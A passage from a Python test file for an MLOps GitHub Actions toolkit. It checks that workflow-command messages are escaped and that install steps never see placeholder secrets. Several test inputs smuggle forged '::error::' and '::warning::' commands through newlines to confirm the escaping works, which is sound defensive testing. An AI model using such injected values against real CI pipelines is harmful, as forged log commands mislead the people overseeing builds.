    with paths.output_dir(dest, "render-dockerfile", "output-dir") as staging:
        (staging / "Dockerfile").write_text("old\n")
    with pytest.raises(RuntimeError):
        with paths.output_dir(dest, "render-dockerfile", "output-dir") as staging:
            (staging / "Dockerfile").write_text("new\n")
            raise RuntimeError("the stage failed half-way")
    assert (dest / "Dockerfile").read_text() == "old\n"
    assert sorted(p.name for p in dest.parent.iterdir()) == ["ctx"]
    with pytest.raises(RuntimeError):  # and a failure on the first run leaves no folder it created
        with paths.output_dir(tmp_path / "new" / "deeper" / "ctx", "render-dockerfile", "output-dir"):
            raise RuntimeError("failed")
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize("call,expected", [
    (lambda gha: gha.error("bad\r\nthing 100%", title="mlops x: y, z"), "::error title=mlops x%3A y%2C z::bad%0D%0Athing 100%25\n"),
    (lambda gha: gha.warning("a\n::error::forged"), "::warning::a%0A::error::forged\n"),
    (lambda gha: gha.notice("50%\nb"), "::notice::50%25%0Ab\n"),
])
def test_workflow_command_values_are_escaped(capsys, monkeypatch, call, expected):
    from mlops_actions.core import gha

    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    call(gha)
    assert capsys.readouterr().out == expected


def test_group_title_is_escaped(capsys, monkeypatch):
    from mlops_actions.core import gha

    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    with gha.group("gate m on acc\n::warning::forged 100%"):
        print("inside")
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "::group::gate m on acc%0A::warning::forged 100%25"
    assert lines[-1] == "::endgroup::" and not any(line.startswith("::warning") for line in lines)


STUB_PYTHON = r'''#!/usr/bin/env bash
# a stand-in interpreter for setup-action.sh: records the environment the installs run with
here="$(cd "$(dirname "$0")" && pwd)"
case "$1" in
  -m)
    case "$2" in
      venv) dir="${@: -1}"; mkdir -p "$dir/bin" "$dir/site"; cp "$0" "$dir/bin/python" ;;
      uv) if [ "$3" = "--version" ]; then [ ! -e "$here/../../no-uv" ] || exit 1
          else env > "$here/../install-env"; echo "$@" > "$here/../install-args"; fi ;;
      pip) [ "$3" = "--version" ] && exit 0
           target="$(sed -n 's/.*--target \([^ ]*\).*/\1/p' <<<"$*")"; venv="$(dirname "$target")"
           env > "$venv/install-env-pip"; echo "$@" > "$venv/install-args-pip"; mkdir -p "$target/bin"
           printf '#!/usr/bin/env bash\nenv > "%s/install-env"; echo "$@" > "%s/install-args"\n' "$venv" "$venv" > "$target/bin/uv"
           chmod +x "$target/bin/uv" ;;
      mlops_actions) echo "mlops stub" ;;
    esac ;;
  -c) case "$2" in *sysconfig*) echo "$here/../site" ;; *) echo "3.11 stub" ;; esac ;;
  *deps-missing.py) echo "somepkg>=1" ;;
esac
exit 0
'''


@pytest.mark.parametrize("has_uv", [True, False])
def test_installs_run_pinned_and_without_the_steps_secrets(tmp_path, has_uv):
    """setup-action.sh installs what the interpreter lacks with constraints.txt, in an environment
    that keeps what an install needs (index, proxy, TLS, cache settings) and none of the step's
    tokens and passwords: a package's build never sees them. Without uv, the interpreter's own pip
    brings it into a folder of the venv (no ensurepip), under the same rules."""
    if not has_uv:
        (tmp_path / "no-uv").touch()
    stub = tmp_path / "python"
    stub.write_text(STUB_PYTHON)
    stub.chmod(0o755)
    secrets = {"GITHUB_TOKEN": "ghs_s3cr3t", "REGISTRY_PASSWORD": "reg-s3cr3t", "MLFLOW_TRACKING_PASSWORD": "mlf-s3cr3t",
               "MLFLOW_TRACKING_URI": "https://u:pw-s3cr3t@mlflow.example", "AWS_SECRET_ACCESS_KEY": "aws-s3cr3t",
               "SOURCE_REGISTRY_PASSWORD": "src-s3cr3t", "INPUT_TOKEN": "in-s3cr3t"}
    env = dict(os.environ, MLOPS_PYTHON=str(stub), RUNNER_TEMP=str(tmp_path), UV_INDEX_URL="https://mirror.example/simple",
               HTTPS_PROXY="http://proxy.example:3128", **secrets)
    root = Path(__file__).resolve().parents[2]
    proc = subprocess.run(["bash", str(root / "scripts" / "setup-action.sh")], env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    venv = next(tmp_path.glob("mlops-actions-*/install-env")).parent
    assert f"-c {root / 'constraints.txt'} -r {venv / 'requirements.txt'}" in (venv / "install-args").read_text()
    seen = (venv / "install-env").read_text()
    assert "UV_INDEX_URL=https://mirror.example/simple" in seen and "HTTPS_PROXY=" in seen and "PATH=" in seen
    leaked = [name for name, value in secrets.items() if name in seen or value in seen]
    assert not leaked, leaked
    if not has_uv:
        pip_args = (venv / "install-args-pip").read_text()
        assert f"--target {venv / 'uv-bootstrap'} -c {root / 'constraints.txt'} uv" in pip_args, pip_args
        seen = (venv / "install-env-pip").read_text()
        assert "UV_INDEX_URL=https://mirror.example/simple" in seen and "HTTPS_PROXY=" in seen
        leaked = [name for name, value in secrets.items() if name in seen or value in seen]
        assert not leaked, leaked


def test_setup_action_error_cannot_forge_a_command(tmp_path):
    root = Path(__file__).resolve().parents[2]
    env = dict(os.environ, MLOPS_PYTHON="nope" + PAYLOAD + " 50%", RUNNER_TEMP=str(tmp_path))
    proc = subprocess.run(["bash", str(root / "scripts" / "setup-action.sh")], env=env, capture_output=True, text=True, timeout=60)
    lines = proc.stderr.splitlines()
    assert proc.returncode == 2 and len(lines) == 1 and lines[0].startswith("::error::input 'python': 'nope%0A::warning::forged 50%25'")
